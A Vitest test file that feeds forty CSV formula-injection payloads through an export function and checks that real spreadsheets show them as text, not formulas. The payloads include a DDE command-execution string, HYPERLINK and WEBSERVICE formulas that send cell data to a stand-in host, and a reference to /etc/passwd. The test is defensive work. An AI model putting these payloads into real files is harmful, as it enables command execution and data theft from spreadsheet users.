/** What a spreadsheet makes of an export, asked of a real one. */
import { expect, test } from 'vitest';
import { csvLine } from '../../demo/collector/csv.js';
import { opened, SPREADSHEETS } from '../support/spreadsheet.js';

const FORMULAS = [
  '1+1',
  '1+1;',
  'SUM(A1:A9)',
  'A1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://ailleurs.example?x="&A1,"ici")',
  'WEBSERVICE("https://ailleurs.example")',
  "'file:///etc/passwd'#$passwd.A1",
];
const PAYLOADS = ['=', '+', '-', '@', ' ='].flatMap((sign) => FORMULAS.map((each) => sign + each));

/** Semicolons, double quotes, UTF-8. */
const FILTER = '59,34,76';

test.each(SPREADSHEETS)(
  '%s shows forty formulas in an export as text, and would have run them',
  () => {
    expect(PAYLOADS).toHaveLength(40);
    const lines = PAYLOADS.map((each) => csvLine(['1', each])).join('');
    const { formulas, cells } = opened(`\uFEFF${lines}`, FILTER);
    expect(formulas).toBe(0);
    expect(cells.map(({ text }) => text)).toEqual(PAYLOADS.flatMap((each) => ['1', `'${each}`]));

    const bare = PAYLOADS.map((each) => `1;"${each.replaceAll('"', '""')}"\r\n`).join('');
    expect(opened(`\uFEFF${bare}`, FILTER).formulas).toBeGreaterThan(0);
  },
  120_000,
);
